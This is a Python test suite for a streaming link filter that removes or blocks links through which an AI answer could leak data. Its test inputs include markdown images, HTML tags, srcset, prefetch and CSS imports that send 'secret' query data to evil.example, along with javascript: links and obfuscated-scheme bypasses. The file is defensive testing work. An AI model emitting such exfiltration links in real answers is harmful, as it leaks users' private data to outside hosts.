"""Links that could carry data out of an answer, whole and in pieces."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extauth.content.guard import LinkFilter
from extauth.content.guard.links import HELD, LONGEST, REMOVED
from extauth.errors import ContentBlocked
from tests.content.addresses import ADDRESSES

pytestmark = pytest.mark.slow

LONG = "x" * 49
# Not fetched, and without a scheme not clicked either.
BARE = re.compile(r"§|//h\.test|h\.test/|https&|h\x02|\[a\]\(mailto:")


def passed(text: str, *domains: str) -> str:
    made = LinkFilter("strip", domains)
    return made.feed(text) + made.finish()


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("![a](https://evil.example/p.png?q=secret).", f"![a]({REMOVED})."),
        (f"[a](https://evil.example/{LONG}) b", f"[a]({REMOVED}) b"),
        (f"See https://evil.example/?q={LONG}.", f"See {REMOVED}."),
        (f"(see www.evil.example/{LONG})", f"(see {REMOVED})"),
        (f"https://{LONG}.evil.example/", REMOVED),
        ("![a][1]\n\n[1]: https://evil.example/?q=1", f"![a][1]\n\n[1]: {REMOVED}"),
        ("<img src='https://evil.example/?q=my secret'>", f"<img src='{REMOVED}'>"),
        ("![a](<https://evil.example/?q=my secret>)", f"![a](<{REMOVED}>)"),
        ("url( https://evil.example/?a=b )", f"url( {REMOVED} )"),
        ("[a](javascript:alert(1))", f"[a]({REMOVED})"),
        ("<img srcset='a.png 1x, https://evil.example/?q=1 2x'>", f"<img srcset='{REMOVED}'>"),
        (
            "<link rel=prefetch href=https://evil.example/?q=1>",
            f"<link rel=prefetch href={REMOVED}>",
        ),
        ("<image xlink:href='//evil.example/?q=1'/>", f"<image xlink:href='{REMOVED}'/>"),
        (r"<img src='\\evil.example\?q=1'>", f"<img src='{REMOVED}'>"),
        (f"![a](file://evil.example/share/{LONG})", f"![a]({REMOVED})"),
        (f"![a](https://evil.example/{'words/' * 22})", f"![a]({REMOVED})"),
        (f"\u770bhttps://evil.example/?q={LONG}\uff0c\u7136", f"\u770b{REMOVED}\uff0c\u7136"),
    ],
)
def test_a_link_that_carries_much_is_removed(text: str, told: str) -> None:
    assert passed(text) == told


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.example.com/search?q=python&page=2)",
        "![logo](https://example.com/logo.png) and ![b](img/b.png?v=3)",
        "See https://en.wikipedia.org/wiki/Foo_(bar), or not.",
        "https://github.com/a/b/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        "https://example.com/a-long-title-of-an-article-with-many-words-in-it-that-goes-on",
        "data = requests.get(url, params={'q': 1}); a[i](x); f(a)[0]: b",
        "[mail](mailto:jane@example.com) [top](#top) [file](../a.md)",
        "<a href='https://example.com/?page=2'>",
        "<img srcset='a.png 1x, https://example.com/b.png 2x'>",
        "[a](https://x.example/1?a=b)[b](https://y.example/2?c=d)",
    ],
)
def test_an_ordinary_link_stays(text: str) -> None:
    assert passed(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "https://example.org/",
        "https://example.com.example.org/",
        "https://example.com@example.org/",
        "HTTPS:\\\\example.org/",
        "[a](//example.org/)",
        "[a](https&#58;//example.org/)",
        "[a](https\\://example.org/)",
        "<a href=https://example.org/>",
        "https://example.com/?next=https://example.org/",
        "www.example.org",
    ],
)
def test_with_allowed_domains_others_are_removed(text: str) -> None:
    told = passed(text, "example.com")
    assert REMOVED in told
    assert "example.org" not in told


def test_allowed_domains_may_carry_anything_and_have_subdomains() -> None:
    text = f"![a](https://cdn.Example.com:8443/{LONG}?q={LONG}) https://example.com."
    assert passed(text, "example.com") == text


def test_an_allowed_link_ends_with_its_parenthesis() -> None:
    text = "[a](https://example.com/x), [b](https://example.com) (see [c](https://example.com/y))."
    assert passed(text, "example.com") == text


@pytest.mark.parametrize("text", [one for one in ADDRESSES if not BARE.match(one)])
def test_with_allowed_domains_nothing_that_is_fetched_names_another(text: str) -> None:
    told = passed(text.replace("§", "DATA"), "example.com")
    assert REMOVED in told
    ours = passed(
        text.replace("§", "DATA").replace("h.test", "cdn.example.com"),
        "example.com",
        "corp.example",
    )
    assert REMOVED not in ours or re.search(r"data:|script|\\|&#0", text)


@pytest.mark.parametrize(
    "text",
    [
        "s = 'a // b'; if a < b and c = '//x': path = \"C:\\\\x\"",
        "[a](../b.md) [c](d\\_e) [f](mailto:jane@example.org) [g]: h",
        '<p title="a: b" class=x><img src="data:image/png;base64,AAAA"><br/>',
        "<style>a > b { color: red; content: '\\2014' }</style>",
        "// a comment, /* another */ and a path //",
    ],
)
def test_with_allowed_domains_what_names_no_host_stays(text: str) -> None:
    assert passed(text, "example.com") == text


def test_a_link_can_block_the_answer() -> None:
    made = LinkFilter("block")
    assert made.feed("Fine so far. ") == "Fine so far. "
    with pytest.raises(ContentBlocked) as caught:
        made.feed("![a](https://evil.example/?q=secret) ")
    assert "secret" not in str(caught.value)
    with pytest.raises(ContentBlocked):
        LinkFilter("block", ("example.com",)).feed("<style>@import '//evil.example/'</style>")


def test_text_that_is_no_link_is_not_held_back() -> None:
    made = LinkFilter("strip")
    assert made.feed("The answer is 42. ") == "The answer is 42. "
    assert made.feed("A [note] of three hr") == "A [note] of three "
    assert made.feed("s") == "hrs"


def test_an_endless_address_is_held_back_in_bounds_and_removed() -> None:
    made = LinkFilter("strip")
    told = "".join(made.feed("a https://evil.example/" if not at else "y" * 50) for at in range(99))
    assert told == f"a {REMOVED}"
    assert made.feed("y b") + made.finish() == " b"


PIECES = (
    *(
        "![",
        "](",
        "https://",
        "http",
        "evil.example",
        "/",
        "?q=",
        LONG,
        " ",
        "\n",
        ")",
        "(",
        "src=",
    ),
    *(
        '"',
        "'",
        "<",
        ">",
        "www.",
        "]:",
        "[",
        "url(",
        "data = ",
        "word ",
        "href",
        "h",
        "é",
        "\uff0c",
    ),
    *("<link ", "srcset=", ", ", "<style>", "</style>", "//evil.example", "<a ", "`", "="),
    *("\uff0c", "&#58;", "x" * (LONGEST + 50), "example.com", ".", "\\"),
)


@given(
    st.lists(st.sampled_from(PIECES), max_size=20).map("".join),
    st.lists(st.integers(1, 80), min_size=1, max_size=40),
    st.sampled_from([(), ("example.com",)]),
)
def test_cutting_never_changes_the_result(
    text: str, cuts: list[int], domains: tuple[str, ...]
) -> None:
    made = LinkFilter("strip", domains)
    told, at, fed = "", 0, 0
    while at < len(text):
        size = cuts[fed % len(cuts)]
        told += made.feed(text[at : at + size])
        at, fed = at + size, fed + 1
    assert told + made.finish() == passed(text, *domains)


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_no_more_is_held_back_than_stated(text: str) -> None:
    made = LinkFilter("strip")
    told = made.feed(text)
    whole = made.finish()
    assert len(whole) <= HELD + len(REMOVED)
    assert told + whole == passed(text)


@pytest.mark.parametrize("piece", ["https://", "](", "[[", "h", "![a](https://e.example/?q=1) "])
def test_a_megabyte_is_filtered_in_linear_time(piece: str) -> None:
    # In more than linear time it would take hours, and a test has minutes.
    passed(piece * (1_000_000 // len(piece)))
